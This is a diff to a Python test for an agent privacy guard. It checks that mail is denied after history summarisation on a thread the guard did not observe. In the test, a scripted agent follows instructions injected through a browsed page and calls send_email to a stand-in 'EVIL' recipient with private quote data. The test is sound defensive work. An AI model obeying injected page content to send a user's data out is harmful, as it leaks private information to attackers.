@@ -21,6 +21,10 @@ memory).
 Expected: a node-written summary on a thread whose summarised conversation the flow never saw counts as a
 result never labelled (as the carried tool message does): the mail is denied, and the journal's audit,
 read with the thread's messages, reports it.
+
+Fixed: a thread the flow first sees (no scan of it, nothing held or journaled) holding a summary counts
+each summary as a result never labelled (`_Scan.summaries`, journaled `unobserved`), so the journal's audit
+agrees.
 """
 
 from __future__ import annotations
@@ -67,7 +71,7 @@ def _run(*, summarise: bool) -> tuple[list[Any], list[Any]]:
     unguarded.invoke({"messages": [HumanMessage("Thanks.")]}, CFG)
     # the same thread, guarded from now on; the model obeys the page
     policy = PrivacyPolicy.of(ME)
-    flow = PrivacyFlow(policy, secret=b"rt174")
+    flow = PrivacyFlow(policy, secret=b"compacted-history")
     mw = GuardMiddleware([flow.guard()], flow=flow, read_only=["browse"])
     guarded = create_agent(_scripted(_call("send_email", {"to": EVIL, "body": "The quote is 120 EUR."}, "m1")),
                            tools, middleware=[*compact, mw], checkpointer=saver)
